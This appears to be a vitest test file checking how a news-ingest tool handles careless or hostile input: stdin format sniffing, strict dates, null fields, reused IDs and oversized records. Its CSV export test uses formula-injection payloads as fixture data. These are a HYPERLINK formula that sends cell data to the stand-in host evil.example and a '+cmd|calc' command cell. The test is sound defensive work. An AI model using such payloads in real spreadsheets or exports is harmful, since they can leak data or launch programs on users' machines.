// Robustness of ingest on hostile or careless input: format sniffing, strict metadata dates,
// null fields, reused IDs, CSV formula cells and oversized records.
import { describe, expect, it } from 'vitest';
import { Readable } from 'node:stream';
import { createServer } from 'node:http';
import { readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { join } from 'node:path';
import { openStore } from '../../src/store/index.js';
import { groupSources, parseJsonl, readSources, sniffFormat, sniffStdinFormat } from '../../src/ingest/index.js';
import { ingestDocuments, metadataDate } from '../../src/pipeline.js';
import { buildExport, renderExport } from '../../src/export.js';
import type { RawDoc } from '../../src/types.js';
import { SHARED_DATA, SEEDS_DIR, hasSharedData, tempDir } from '../helpers/paths.js';

const dir = tempDir('storyline-robust-');
const openTemp = (name: string) => openStore(join(dir, name));

/** The first `n` records of the AEB benchmark input: real pages whose HTML starts in the first 2,000 characters. */
function aebRecords(n: number): string {
  const all = gunzipSync(readFileSync(join(SHARED_DATA, 'aeb/input.jsonl.gz'))).toString('utf8');
  let end = 0;
  for (let i = 0; i < n; i++) end = all.indexOf('\n', end) + 1;
  return all.slice(0, end);
}

const seedRecord = (id: string, published?: string) => {
  const text = readFileSync(join(SEEDS_DIR, 'seeds.jsonl'), 'utf8').split('\n')[0]!;
  return JSON.stringify({ ...JSON.parse(text), id, published });
};

describe('format sniffing (review item 1)', () => {
  it.skipIf(!hasSharedData)('reads JSON Lines on stdin as records, even when their HTML has <head> near the start', async () => {
    const content = aebRecords(60);
    expect(content.slice(0, 2000)).toMatch(/<(head|body|article|p)[\s>]/i);
    expect(sniffFormat(content)).toBe('jsonl');
    expect(sniffStdinFormat(content)).toBe('jsonl');
    const sources = [];
    for await (const s of readSources(['-'], { stdin: Readable.from([Buffer.from(content)]) })) sources.push(s);
    expect(sources[0]!.items).toHaveLength(60);
    expect(sources[0]!.errors).toEqual([]);
    expect(sources[0]!.items[59]!.origin).toBe('stdin:60');
  });

  it('takes stdin as JSON Lines when it starts with an object, else a feed, an HTML document, a JSON array or plain text', () => {
    expect(sniffStdinFormat('<!DOCTYPE html><html><body><p>The council met.</p></body></html>')).toBe('html');
    expect(sniffStdinFormat('<?xml version="1.0"?><rss version="2.0"><channel></channel></rss>')).toBe('feed');
    expect(sniffStdinFormat('\uFEFF{"text":"<p>x</p>"}')).toBe('jsonl');
    expect(sniffStdinFormat('[{"text":"The council met."}]')).toBe('json');
    // Plain text is one article (review 3, item 14), not "invalid JSON" on every line.
    expect(sniffStdinFormat('The council met on Monday. <p> was in the text.')).toBe('text');
  });

  it.skipIf(!hasSharedData)('reads a .jsonl URL served as application/octet-stream record by record', async () => {
    const body = aebRecords(3);
    const server = createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/octet-stream' });
      res.end(body);
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
    try {
      const { port } = server.address() as { port: number };
      const sources = [];
      for await (const s of readSources([`http://127.0.0.1:${port}/day.jsonl`], { allowPrivate: true })) sources.push(s);
      expect(sources[0]!.items).toHaveLength(3);
    } finally {
      server.close();
    }
  });
});

describe('metadata dates are strict (review item 2)', () => {
  it('refuses days that do not exist and dates without a 4-digit year, naming the field and what to use', () => {
    for (const bad of ['2023-02-30', '2024-13-01', 'March 5', '5', 'March 2021', '2024-03-05garbage', '31 April 2021']) {
      expect(() => metadataDate(bad), bad).toThrow(/^field "published": ".*" .*\(use YYYY-MM-DD/);
    }
    expect(() => metadataDate('2023-02-30')).toThrow('is not a real day: February 2023 has 28 days (use YYYY-MM-DD');
    expect(() => metadataDate('2024-02-30', '--published')).toThrow(/^--published: "2024-02-30" is not a real day/);
  });

  it('keeps the day as written, in its own time zone, for ISO, RFC 2822 and written dates', () => {
    expect(metadataDate('2024-02-29')).toBe('2024-02-29');
    expect(metadataDate('2024-03-05T23:30:00-05:00')).toBe('2024-03-05');
    expect(metadataDate('2024-03-06T01:30:00+09:00')).toBe('2024-03-06');
    expect(metadataDate('Wed, 06 Mar 2024 23:30:00 -0800')).toBe('2024-03-06');
    expect(metadataDate('Tue, 5 Mar 2024 10:00 GMT')).toBe('2024-03-05');
    expect(metadataDate('5 March 2021')).toBe('2021-03-05');
    expect(metadataDate('March 5, 2021')).toBe('2021-03-05');
    expect(metadataDate('Monday, March 4, 2024 at 10:30 am EST')).toBe('2024-03-04');
  });

  it('stores an RSS item of 23:30 Pacific time on the day its feed gives, and refuses impossible JSON Lines dates', async () => {
    const store = openTemp('dates.db');
    try {
      const feed = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Test Outlet</title><link>https://example.org/</link>
<item><title>Council votes on budget</title><link>https://example.org/a2</link><pubDate>Wed, 06 Mar 2024 23:30:00 -0800</pubDate>
<description>The council approved the budget on Wednesday evening after a long debate, the clerk said.</description></item>
<item><title>Harbour reopens</title><link>https://example.org/a3</link><pubDate>Wed, 32 Jan 2024 10:00:00 +0000</pubDate>
<description>The harbour reopened after the storm damage was repaired, the port authority said.</description></item>
</channel></rss>`;
      const feedPath = join(dir, 'outlet.rss');
      writeFileSync(feedPath, feed);
      const jsonlPath = join(dir, 'dates.jsonl');
      writeFileSync(
        jsonlPath,
        [
          { id: 'd1', text: 'The mayor resigned on Monday after a long scandal over the city budget, officials said.', published: '2023-02-30' },
          { id: 'd2', text: 'The harbour reopened on Tuesday after the storm damage was repaired, officials said.', published: 'March 5' },
          { id: 'd3', text: 'The council approved the plan to rebuild the bridge on Monday, officials said.', published: '2024-03-05T23:30:00-05:00' },
        ]
          .map((r) => JSON.stringify(r))
          .join('\n'),
      );
      const report = await ingestDocuments(store, readSources([feedPath, jsonlPath]));
      expect(report.stored).toBe(2);
      expect(report.errors.map((e) => e.origin)).toEqual([`${feedPath}#item2`, `${jsonlPath}:1`, `${jsonlPath}:2`]);
      expect(report.errors[0]!.message).toMatch(/^<pubDate>: "Wed, 32 Jan 2024 10:00:00 \+0000" is not a real day: January 2024 has 31 days \(use YYYY-MM-DD/);
      expect(report.errors[1]!.message).toMatch(/^field "published": "2023-02-30" is not a real day/);
      const published = Object.fromEntries(buildExport(store).articles.map((a) => [a.title, a.published]));
      expect(published['Council votes on budget']).toBe('2024-03-06');
      expect(Object.values(published)).toContain('2024-03-05');
    } finally {
      store.close();
    }
  });
});

describe('null and non-string fields (review item 3)', () => {
  it('gives each bad record its own error, never an exception', () => {
    const { items, errors } = parseJsonl(
      ['{"id":"n1","text":null}', '{"id":"n2","html":null,"text":["a"]}', '{"id":null,"text":"A council voted on the budget today, officials said."}', '{"text":"ok","published":20240305}'].join('\n'),
      'n.jsonl',
    );
    expect(items.map((i) => i.text)).toEqual(['A council voted on the budget today, officials said.']);
    expect(items[0]!.id).toBeUndefined();
    expect(errors).toEqual([
      { origin: 'n.jsonl:1', message: 'the record has no "text" or "html" field with content (a string)' },
      { origin: 'n.jsonl:2', message: 'field "text" must be a string, not an array' },
      { origin: 'n.jsonl:4', message: 'field "published" must be a string, not a number (20240305)' },
    ]);
  });

  it('goes on with the other files of a directory after a record with "text": null', async () => {
    const folder = join(dir, 'folder');
    mkdirSync(folder);
    const seedLines = readFileSync(join(SEEDS_DIR, 'seeds.jsonl'), 'utf8').trim().split('\n');
    seedLines.forEach((line, i) => writeFileSync(join(folder, `${i}.jsonl`), i === 1 ? '{"id":"n1","text":null}\n' + line + '\n' : line + '\n'));
    const store = openTemp('nulls.db');
    try {
      const report = await ingestDocuments(store, groupSources(readSources([folder]), 100));
      expect(report.stored).toBe(seedLines.length);
      expect(report.errors).toEqual([{ origin: `${folder}/1.jsonl:1`, message: 'the record has no "text" or "html" field with content (a string)' }]);
    } finally {
      store.close();
    }
  });
});

describe('an ID belongs to one article (review item 5)', () => {
  it.skipIf(!hasSharedData)('refuses another article under a stored ID, naming the line, the ID and the stored article', async () => {
    const haiti = readFileSync(join(SHARED_DATA, 't17/haiti_bbc/articles.jsonl'), 'utf8').split('\n');
    const h1n1 = readFileSync(join(SHARED_DATA, 't17/H1N1_bbc/articles.jsonl'), 'utf8').split('\n');
    const haitiLine = haiti.findIndex((l) => l.startsWith('{"id": "546"'));
    const h1n1Line = h1n1.findIndex((l) => l.startsWith('{"id": "546"'));
    expect(haitiLine).toBeGreaterThanOrEqual(0);
    expect(h1n1Line).toBeGreaterThanOrEqual(0);
    const first = join(dir, 'haiti.jsonl');
    const second = join(dir, 'h1n1.jsonl');
    writeFileSync(first, haiti[haitiLine] + '\n');
    writeFileSync(second, '\n' + h1n1[h1n1Line] + '\n');
    const store = openTemp('ids.db');
    try {
      expect((await ingestDocuments(store, readSources([first]))).stored).toBe(1);
      const title = store.getArticle('546')!.title;
      const report = await ingestDocuments(store, readSources([second]));
      expect(report).toMatchObject({ stored: 0, duplicates: 0, failed: 1 });
      expect(report.errors[0]!.origin).toBe(`${second}:2`);
      expect(report.errors[0]!.message).toContain('id "546" is already used by the stored article "');
      expect(report.errors[0]!.message).toContain(title.slice(0, 30));
      expect(report.errors[0]!.message).toContain('give each article a unique "id" (for files that number their ids each from 1: `storyline ingest --id-prefix NAME-` per file), or leave "id" out');
      // The same article again under its ID stays a duplicate.
      expect(await ingestDocuments(store, readSources([first]))).toMatchObject({ stored: 0, duplicates: 1, failed: 0 });
      // With a prefix (review 9: Timeline17 numbers its ids per folder), the second file's article is stored under its own id.
      expect(await ingestDocuments(store, readSources([second], { idPrefix: 'h1n1-' }))).toMatchObject({ stored: 1, failed: 0 });
      expect(store.getArticle('h1n1-546')).toBeTruthy();
      expect(store.getArticle('546')!.title).toBe(title);
    } finally {
      store.close();
    }
  });

  it('refuses a second article with the ID of an earlier one of the same batch', async () => {
    const store = openTemp('batch-ids.db');
    try {
      const docs: RawDoc[] = [
        { origin: 'in.jsonl:1', id: 'x1', text: 'The council voted on Monday to approve the new budget for the city, officials said.' },
        { origin: 'in.jsonl:2', id: 'x1', text: 'The harbour reopened on Tuesday after the storm damage was repaired, the port authority said.' },
        { origin: 'in.jsonl:3', id: 'x1', text: 'The council voted on Monday to approve the new budget for the city, officials said.' },
      ];
      const report = await ingestDocuments(store, (async function* () {
        yield { origin: 'in.jsonl', items: docs, errors: [] };
      })());
      expect(report).toMatchObject({ stored: 1, duplicates: 1, failed: 1 });
      expect(report.errors[0]).toEqual({
        origin: 'in.jsonl:2',
        message: 'id "x1" is already used by "The council voted on Monday to approve the new budget for the city, officials…" at in.jsonl:1, with different content: give each article a unique "id" (for files that number their ids each from 1: `storyline ingest --id-prefix NAME-` per file), or leave "id" out to have one made from its URL or content',
      });
    } finally {
      store.close();
    }
  });
});

describe('CSV export escapes formula cells (review item 12)', () => {
  it('prefixes cells starting with = + - @ tab or CR with a quote', async () => {
    const store = openTemp('csv.db');
    try {
      const record = {
        id: 'f1',
        title: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        text: 'The council voted, on Monday, to approve the new budget of "$5m, with cuts", officials said.\nSecond line here.',
        source: '+cmd|calc',
      };
      const path = join(dir, 'formula.jsonl');
      writeFileSync(path, JSON.stringify(record) + '\n' + JSON.stringify({ id: 'f2', title: '@SUM(A1:A9)', text: 'The harbour reopened on Tuesday after repairs, the port said.', source: '-2+3' }) + '\n');
      await ingestDocuments(store, readSources([path]));
      const csv = renderExport(buildExport(store), 'csv', { table: 'articles' });
      expect(csv).toContain(`f1,'+cmd|calc,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
      expect(csv).toContain(`f2,'-2+3,'@SUM(A1:A9)`);
      for (const line of csv.split('\n')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+\-@\t\r]/);
    } finally {
      store.close();
    }
  });
});

describe('a size cap on one article (review item 18)', () => {
  it('refuses a 15 MB JSON Lines record before parsing it, naming the line and the flag, and keeps the others', async () => {
    const path = join(dir, 'huge.jsonl');
    const huge = JSON.stringify({ id: 'huge', title: 'Huge line', text: 'word '.repeat(3_000_000) });
    writeFileSync(path, seedRecord('s1', '2021-12-24') + '\n' + huge + '\n' + seedRecord('s1', '2021-12-24') + '\n');
    const sources = [];
    for await (const s of readSources([path])) sources.push(s);
    expect(sources[0]!.items.map((i) => i.origin)).toEqual([`${path}:1`, `${path}:3`]);
    expect(sources[0]!.errors).toEqual([
      { origin: `${path}:2`, message: 'the record is 14.3 MB, over the 5 MB limit for one article (raise it with --max-article-bytes if this really is one article)' },
    ]);
  });

  it('applies the configured cap to text files, pages and stdin', async () => {
    const text = join(dir, 'long.txt');
    writeFileSync(text, 'The council met again on Monday. '.repeat(400));
    const small = { maxArticleBytes: 10_000 };
    const fromFile = [];
    for await (const s of readSources([text], small)) fromFile.push(s);
    expect(fromFile[0]!.items).toHaveLength(0);
    expect(fromFile[0]!.errors[0]!.message).toMatch(/^the text is 13 KB, over the 10 KB limit for one article/);
    const fromStdin = [];
    const lines = `{"text":"${'The council met again on Monday. '.repeat(400)}"}\n{"text":"A short one about the council."}\n`;
    for await (const s of readSources(['-'], { ...small, stdin: Readable.from([Buffer.from(lines)]) })) fromStdin.push(s);
    expect(fromStdin[0]!.items).toHaveLength(1);
    expect(fromStdin[0]!.errors.map((e) => e.origin)).toEqual(['stdin:1']);
  });
});

